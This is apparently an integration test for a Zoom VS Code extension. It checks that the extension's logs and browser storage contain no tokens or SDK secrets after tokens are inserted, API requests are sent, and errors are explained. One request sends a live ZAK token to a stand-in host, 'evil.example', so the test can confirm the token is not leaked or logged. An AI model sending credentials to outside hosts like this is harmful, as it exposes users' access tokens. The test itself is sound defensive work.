import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { rm } from 'node:fs/promises';
import * as vscode from 'vscode';
import { pressLens, resultEditor } from './support/apiResults';
import { browser } from './support/browser';
import { inWorkspace, openFile, openText, writeFile } from './support/editors';
import { runningSandbox } from './support/environment';
import { logEverything, readLog, readLogsAndStorage } from './support/keptFiles';
import { allowTokens, answerMessages, answerQuestions } from './support/questions';
import { QuickInputs } from './support/quickInputs';
import { forgetSdkSecrets, sdkSecrets, setSdkSecrets } from './support/sdkSecrets';
import { until } from './support/until';
import { startSignedIn } from './support/zoom';

const sandbox = runningSandbox();

const run = <T>(command: string, ...args: unknown[]) =>
  Promise.resolve(vscode.commands.executeCommand<T>(command, ...args));

/** A token in the address of a request. VS Code itself logs addresses at this level, so it counts for our log. */
const tokenInPath = 'eyJhbGciOiJIUzI1NiJ9.eyJhIjoxfQ.c2lnbmF0dXJl';

const closeEditor = () => run('workbench.action.revertAndCloseActiveEditor');

/** Inserts tokens of all kinds, and renews one. Returns them all. */
async function insertTokens(): Promise<string[]> {
  const given: string[] = [];
  await allowTokens(async () => {
    for (const options of [
      { kind: 'zak', ttl: 600 },
      { kind: 'zak', ttl: 0 },
      { kind: 'onbehalf', meetingId: 85012345678 },
      { kind: 'access' },
      { kind: 'signature', meetingId: 85012345678, role: 1 },
      { kind: 'videoSdk', sessionName: 'Larkspur' },
    ]) {
      for (const target of ['env', 'clipboard']) {
        given.push(await run<string>('zoom.insertToken', { target, file: '.env', ...options }));
      }
    }
    const { document } = await openFile('.env');
    // VS Code may still have the text of an earlier time, and reads the file again then.
    await until('the last token in the editor', () =>
      document.getText().includes(given.at(-2) ?? '-'),
    );
    await run('zoom.renewToken', document.uri, new vscode.Position(0, 20));
    given.push(...(document.getText().match(/(?<==)eyJ\S+/g) ?? []));
    await closeEditor();
    given.push(await run<string>('zoom.copyZak', {}));
    await openText('', 'plaintext');
    given.push(await run<string>('zoom.insertZak', {}));
  });
  return given;
}

/** Sends requests as a person and as a program. Returns what their responses hide. */
async function sendRequests(): Promise<string[]> {
  const inputs = new QuickInputs();
  const title = 'Send API Request';
  const hidden: string[] = [];
  const showResult = async (pattern: RegExp) => {
    const editor = await resultEditor();
    await pressLens(editor, 'Show Hidden Values');
    hidden.push(
      ...(await until('the hidden values', () => {
        const found = [...editor.document.getText().matchAll(pattern)];
        return found.length > 0 && found.map(({ 1: value = '' }) => value);
      })),
    );
    await run('workbench.action.closeAllEditors');
  };
  try {
    const { id } = await run<{ id: number }>('zoom.createMeeting', { topic: 'Kept' });
    await answerQuestions(
      ({ buttons }) => buttons.find((one) => ['Allow', 'Send', 'Show'].includes(one)),
      async () => {
        let running = run('zoom.sendApiRequest');
        await inputs.pick(title, 'Get ZAK for Five Minutes');
        await running;
        await showResult(/"token": "([\w.-]{20,})"/g);
        running = run('zoom.sendApiRequest');
        await inputs.pick(title, 'Enter a Method and a Path');
        await inputs.type(title, `GET /meetings/${id}`);
        await running;
        await showResult(/[?&](?:zak|pwd)=([\w.-]{8,})/g);
        const token = hidden[0] ?? '';
        await run('zoom.sendApiRequest', { path: '/users/me/token', query: { type: 'zak' } });
        for (const options of [
          { path: `/users/${tokenInPath}` },
          { path: `/users/me?access_token=${tokenInPath}` },
          { path: `https://evil.example/?zak=${token}` },
          { method: 'POST', path: '/users/me/meetings', body: { topic: token, type: token } },
        ]) {
          await run('zoom.sendApiRequest', options).catch(() => undefined);
        }
      },
    );
  } finally {
    inputs.dispose();
  }
  return hidden;
}

/** Does with a token what gives none. */
async function useToken(token: string): Promise<void> {
  const text = `HTTP 401 {"code":124,"message":"Invalid access token ${token}."}`;
  await run('zoom.checkToken', { token });
  await run('zoom.explainError', { text });
  await run('zoom.explainError', { text: token }).catch(() => undefined);
  await run('zoom.insertToken', { kind: token }).catch(() => undefined);
  const { document } = await openText(`a = "${token}"\n# ${text}\n`, 'python', [0, 9]);
  await run('vscode.executeHoverProvider', document.uri, new vscode.Position(0, 9));
  await run('zoom.checkToken');
  await run('zoom.insertApiRequest', { request: 'getUserToken', userId: token });
  const { line } = document.positionAt(document.getText().indexOf('# HTTP'));
  await openText(text, 'log', [line, 1]);
  await answerMessages(
    () => undefined,
    () => run('zoom.explainError'),
  );
  // What Zoom says may repeat what it was sent.
  await sandbox.fault({
    route: 'GET /v2/users/:userId',
    kind: 'status',
    status: 400,
    times: 1,
    body: { code: 300, message: `Wrong token ${token}, https://zoom.us/s/1?zak=${token}` },
  });
  await answerQuestions('Send', () =>
    assert.rejects(run('zoom.sendApiRequest', { path: '/users/me' })),
  );
}

describe('The log and the storage', () => {
  beforeEach(async () => {
    await startSignedIn();
    await run('zoom.resetTokenPermissions');
    await writeFile('.env', '');
  });
  afterEach(async () => {
    await forgetSdkSecrets();
    await rm(inWorkspace('.env').fsPath, { force: true });
  });

  it('contain no token and no secret', async () => {
    const marks = await logEverything(async () => {
      await setSdkSecrets();
      const given = [...(await insertTokens()), ...(await sendRequests())];
      await useToken(given[0] ?? '');
      return [...new Set([...given, ...Object.values(sdkSecrets)])];
    });
    assert.ok(marks.length > 15, String(marks.length));
    // This shows that the log and the state are read.
    const log = await readLog();
    assert.match(log, /GET \/users\/me\/zak /);
    assert.ok(!log.includes(tokenInPath));
    const stored = await browser.readStorage();
    if (stored !== undefined) {
      const hash = createHash('sha256')
        .update(marks[0] ?? '')
        .digest('base64url');
      assert.ok(stored.includes(hash));
    }
    const files = await readLogsAndStorage();
    for (const { path, text } of [{ path: 'the browser', text: stored ?? '' }, ...files]) {
      for (const mark of marks) {
        const at = text.indexOf(mark);
        assert.equal(at, -1, `${path}: …${text.slice(Math.max(0, at - 200), at + 20)}…`);
      }
    }
  });
});
